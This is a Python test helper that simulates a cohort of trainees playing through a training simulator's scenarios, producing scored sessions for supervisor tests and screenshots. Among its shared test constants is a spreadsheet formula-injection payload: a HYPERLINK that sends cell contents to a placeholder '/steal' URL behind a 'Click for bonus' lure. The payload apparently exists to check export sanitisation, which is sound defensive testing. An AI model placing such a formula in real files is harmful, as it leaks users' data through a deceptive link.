"""Realistic cohort data for the supervisor tests and screenshots: real play through real scenarios.

Each trainee has a starting skill and a learning rate; at each reply they pick the best-scoring
choice with a probability that grows (or shrinks) over the weeks, otherwise any shown choice. The
engine scores the sessions and ``Store.attach`` records them exactly as the practice window does,
with a ``FakeClock`` placing them over the period. A few sessions are left unfinished.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from simulator.engine import FakeClock, Session
from simulator.scenario import Scenario, read_scenario
from simulator.store import Store

# shared by the supervise tests (a module of its own: `from conftest import` is ambiguous across folders)
FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for bonus")'
MARKUP = "<b>Bold</b> & <i>Co</i>"
PASSPHRASE = "correct horse battery"  # noqa: S105 - the test supervisor's passphrase

ROOT = Path(__file__).resolve().parents[2]
SCENARIOS = ROOT / "scenarios"
START = datetime(2026, 1, 5, 8, 30, tzinfo=UTC)  # a Monday

FIRST = (
    "Amara Okafor", "Ben Whitfield", "Chloé Martin", "Dev Patel", "Elena Rossi", "Farid Haddad", "Grace Liu",
    "Hiro Tanaka", "Isabel Fernández", "Jonas Berg", "Kemi Adeyemi", "Liam O'Brien", "Maya Cohen", "Nikolai Petrov",
    "Olivia Brown", "Pablo Ruiz", "Quinn Taylor", "Rania Aziz", "Sam Nguyen", "Tara Singh", "Uma Krishnan",
    "Victor Dubois", "Wen Zhao", "Ximena Torres", "Yusuf Demir", "Zoe Clarke", "Aiden Murphy", "Bianca Costa",
    "Carlos Mendes", "Dana Kowalski", "Emeka Nwosu", "Fatima Zahra", "Gabriel Silva", "Hana Kim", "Ivan Horvat",
    "Julia Schmidt", "Kai Andersen", "Lucía Navarro", "Mohammed Al-Sayed", "Nora Lindqvist",
)  # fmt: skip


@dataclass
class Learner:
    name: str
    skill: float  # chance of the best reply at the start
    rate: float  # change of that chance per week (negative: slipping)
    sessions: int


def scenarios() -> list[Scenario]:
    return [read_scenario(p) for p in sorted(SCENARIOS.glob("*.yaml"))]


def learners(count: int, rng: random.Random) -> list[Learner]:
    people = []
    for i in range(count):
        name = FIRST[i % len(FIRST)] + ("" if i < len(FIRST) else f" {i // len(FIRST) + 1}")
        rate = rng.choice((0.08, 0.06, 0.04, 0.0, -0.05)) if i % 7 else -0.06
        people.append(Learner(name, rng.uniform(0.15, 0.75), rate, rng.randint(3, 12)))
    return people


def pick(session: Session, chance: float, rng: random.Random) -> int:
    """A shown choice number: the best-scoring one with probability ``chance``, else any."""
    shown = session.available_choices()
    if rng.random() < chance:
        best = max(range(len(shown)), key=lambda i: sum(shown[i].points.values()))
        return best + 1
    return rng.randint(1, len(shown))


def play_one(store: Store, scenario: Scenario, trainee: str, when: datetime, *, chance: float, rng: random.Random,
             stop_after: int | None = None, mode: str = "practice") -> Session:  # fmt: skip
    session = Session(scenario, clock=FakeClock(when), mode=mode)
    store.attach(session, trainee)
    session.begin()
    steps = 0
    while not session.finished and steps < 40:
        if stop_after is not None and steps >= stop_after:
            break
        session.clock.advance(rng.uniform(4, 30))  # type: ignore[attr-defined]
        session.choose(pick(session, chance, rng))
        steps += 1
    session.close()
    return session


def populate(store: Store, trainees: int = 40, weeks: int = 6, seed: int = 3, max_sessions: int | None = None) -> None:
    """Fill ``store`` with ``trainees`` people practising over ``weeks`` weeks from ``START``."""
    rng = random.Random(seed)
    library = scenarios()
    for person in learners(trainees, rng):
        store.add_trainee(person.name, f"E{1000 + rng.randrange(9000)}" if rng.random() < 0.8 else None)
        count = min(person.sessions, max_sessions or person.sessions)
        days = sorted(rng.uniform(0, weeks * 7 - 0.5) for _ in range(count))
        for day in days:
            when = START + timedelta(days=int(day), hours=rng.uniform(0, 8))
            chance = min(0.97, max(0.03, person.skill + person.rate * day / 7))
            unfinished = rng.random() < 0.05
            mode = "assessment" if rng.random() < 0.25 else "practice"
            play_one(store, rng.choice(library), person.name, when, chance=chance, rng=rng,
                     stop_after=2 if unfinished else None, mode=mode)  # fmt: skip
